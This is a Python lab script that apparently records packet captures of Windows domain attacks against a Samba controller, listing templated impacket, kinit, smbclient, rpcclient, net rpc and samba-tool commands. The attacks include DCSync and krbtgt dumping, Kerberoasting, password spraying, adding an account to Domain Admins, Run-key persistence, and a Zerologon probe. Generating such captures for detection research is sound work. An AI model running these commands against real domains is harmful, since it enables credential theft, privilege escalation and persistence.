"""Attacks on a Windows domain: impacket's tools, Samba's own and Kerberos tools in the wrong hands, against a Samba controller, one capture each.

What Samba does not implement (creating services, WMI, DCOM) shows as far as it goes: the tool's session, its binds and the refusal.
"""

import os
import sys

from runs import Run

here = os.path.dirname(os.path.abspath(__file__))
ADMIN = "{short}/Administrator:{admin}@{controller}"
USER = '{short}/ana:{password}@{controller}'


def act(name: str, tool: str, command: str, seconds: int = 40) -> Run:
    return Run(f'apt_{name}', 'apt', tool, 'in', '{dc}', 'any', 'host {attacker} and host {dc}', seconds, command)


def impacket(name: str, script: str, rest: str, seconds: int = 40) -> Run:
    return act(name, f'impacket-{script.lower()}', f'{{python}} {{bin}}/{script}.py {rest}', seconds)


DOMAIN = [
    impacket('psexec', 'psexec', f"'{ADMIN}' whoami"),
    impacket('smbexec', 'smbexec', f"'{ADMIN}'"),
    impacket('wmiexec', 'wmiexec', f"'{ADMIN}' whoami"),
    impacket('atexec', 'atexec', f"'{ADMIN}' whoami"),
    impacket('dcomexec', 'dcomexec', f"-object MMC20 '{ADMIN}' whoami"),
    impacket('secretsdump_dcsync', 'secretsdump', f"-just-dc '{ADMIN}'"),
    impacket('secretsdump_user', 'secretsdump', f"-just-dc-user krbtgt '{ADMIN}'"),
    impacket('secretsdump_registry', 'secretsdump', f"'{ADMIN}'"),
    impacket('getuserspns', 'GetUserSPNs', "-request -dc-ip {dc} '{realm}/ana:{password}'"),
    impacket('getnpusers', 'GetNPUsers', '-dc-ip {dc} -no-pass -usersfile {accounts} {realm}/'),
    impacket('samrdump', 'samrdump', f"'{USER}'"),
    impacket('lookupsid', 'lookupsid', f"'{USER}' 2500"),
    impacket('rpcdump', 'rpcdump', f"'{USER}'"),
    impacket('getadusers', 'GetADUsers', "-all -dc-ip {dc} '{realm}/ana:{password}'"),
    impacket('finddelegation', 'findDelegation', "-dc-ip {dc} '{realm}/ana:{password}'"),
    impacket('getlaps', 'GetLAPSPassword', "-dc-ip {dc} '{realm}/Administrator:{admin}'"),
    impacket('addcomputer', 'addcomputer', "-computer-name EVIL1$ -computer-pass Passw0rd -dc-ip {dc} '{realm}/ana:{password}'"),
    impacket('services', 'services', f"'{ADMIN}' create -name updsvc -display updsvc -path 'C:\\x.exe'"),
    impacket('reg_query', 'reg', f"'{ADMIN}' query -keyName 'HKLM\\\\SAM'"),
    impacket('netview', 'netview', "-target {dc} '{realm}/ana:{password}'", 25),
    impacket('gpp', 'Get-GPPPassword', f"'{ADMIN}'"),
    impacket('smbclient_copy', 'smbclient', f"-inputfile {{copying}} '{ADMIN}'"),
    impacket('ticketing', 'getTGT', "-dc-ip {dc} '{realm}/svc-sql:{password}'"),
    impacket('dacledit', 'dacledit', "-action read -target Administrator -dc-ip {dc} '{realm}/ana:{password}'"),
    act('spray_kerberos', 'kinit', "sh -c 'for u in $(cat {accounts}); do echo Spring2026! | kinit $u@{realm_upper}; done'"),
    act(
        'spray_ldap',
        'ldapwhoami',
        "sh -c 'for u in $(cat {accounts}); do ldapwhoami -x -H ldap://{controller} -D $u@{realm} -w Spring2026!; done'",
    ),
    act(
        'spray_smb',
        'smbclient',
        "sh -c 'for u in $(cat {accounts}); do smbclient -s {conf} -U {short}/$u%Spring2026! -L //{controller}; done'",
    ),
    act('guess_smb', 'smbclient', "sh -c 'for i in $(seq 40); do smbclient -s {conf} -U {short}/ana%guess$i -L //{controller}; done'"),
    act(
        'enum_rpcclient',
        'rpcclient',
        "rpcclient -s {conf} -U {short}/ana%{password} {controller} -c 'enumdomusers; enumdomgroups; enumalsgroups builtin; querygroupmem 0x200; querydispinfo; getdompwinfo; querydominfo; lsaenumsid; netshareenumall; netsessenum'",
    ),
    act(
        'enum_ldap',
        'ldapsearch',
        "sh -c 'for f in \"(servicePrincipalName=*)\" \"(adminCount=1)\" \"(objectClass=trustedDomain)\" \"(objectCategory=computer)\" \"(userAccountControl:1.2.840.113556.1.4.803:=4194304)\" \"(objectClass=group)\" \"(objectClass=user)\"; do "
        "ldapsearch -x -H ldap://{controller} -D ana@{realm} -w {password} -b DC=corp,DC=example \"$f\"; done'",
    ),
    act(
        'roast_kvno',
        'kvno',
        "sh -c 'echo {password} | kinit ana@{realm_upper}; for n in 0 1 2; do kvno -e rc4-hmac MSSQLSvc/db$n.{realm}:1433; done'",
    ),
    act(
        'tool_copy',
        'smbclient',
        "smbclient -s {conf} -U {short}/Administrator%{admin} //{controller}/sysvol -c 'put /usr/bin/env mimikatz.exe; put /usr/bin/env PsExec.exe'",
    ),
    act(
        'service_net_rpc',
        'net-rpc',
        "sh -c 'net rpc service create updsvc updsvc C:\\x.exe -s {conf} -U {short}/Administrator%{admin} -S {controller}; net rpc service start spooler -s {conf} -U {short}/Administrator%{admin} -S {controller}'",
    ),
    act(
        'account_net_rpc',
        'net-rpc',
        "sh -c 'net rpc user add evil1 Passw0rd-9 -s {conf} -U {short}/Administrator%{admin} -S {controller}; net rpc group addmem \"Domain Admins\" evil1 -s {conf} -U {short}/Administrator%{admin} -S {controller}'",
    ),
    act(
        'registry_net_rpc',
        'net-rpc',
        "net rpc registry setvalue 'HKLM\\Software\\Run' upd sz 'C:\\x.exe' -s {conf} -U {short}/Administrator%{admin} -S {controller}",
    ),
    act(
        'dcsync_samba',
        'samba-tool',
        "samba-tool drs clone-dc-database {realm} --server={controller} --include-secrets --targetdir={folder}/clone -U {short}/Administrator%{admin}",
    ),
    act('zerologon_probe', 'script-netlogon', '{python} {here}/netlogon.py {dc} DC1 400'),
]


def record_domain(lab, only: tuple[str, ...]) -> None:
    from directory import ADMIN as admin, CONTROLLER, PASSWORD, REALM, SERVICES, SHORT, USERS, member, start

    folder = f'{lab.folder}/site'
    start(lab.lab, 'a', folder)
    conf, environment = member(folder, lab.people[0])
    os.environ.update(environment)
    lab._write('accounts', [*USERS, *SERVICES, 'nobody1', 'nobody2', 'backupadm', 'helpdesk'])
    lab._write('copying', ['use files', 'ls', 'get budget.xlsx', 'use sysvol', 'ls', 'put /usr/bin/env', 'exit'])
    lab.places.update(
        short=SHORT,
        realm=REALM.lower(),
        realm_upper=REALM,
        admin=admin,
        password=PASSWORD,
        controller=CONTROLLER,
        conf=conf,
        bin=os.path.dirname(sys.executable),
        accounts=f'{lab.folder}/accounts',
        copying=f'{lab.folder}/copying',
    )
    for run in DOMAIN:
        if not only or run.name in only:
            lab.record(run)
